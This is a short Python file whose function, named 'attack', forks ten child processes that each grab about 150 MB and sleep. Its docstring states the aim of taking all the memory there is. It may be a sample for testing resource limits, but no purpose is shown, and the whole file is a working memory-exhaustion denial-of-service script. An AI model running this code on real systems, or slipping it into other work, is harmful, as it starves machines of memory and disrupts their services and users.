"""Take all the memory there is, each process a part of it."""

import os
import time


def attack():
    for _ in range(10):
        if os.fork() == 0:
            taken = bytearray(b"x") * 150_000_000
            time.sleep(1000)
            del taken
    time.sleep(1000)
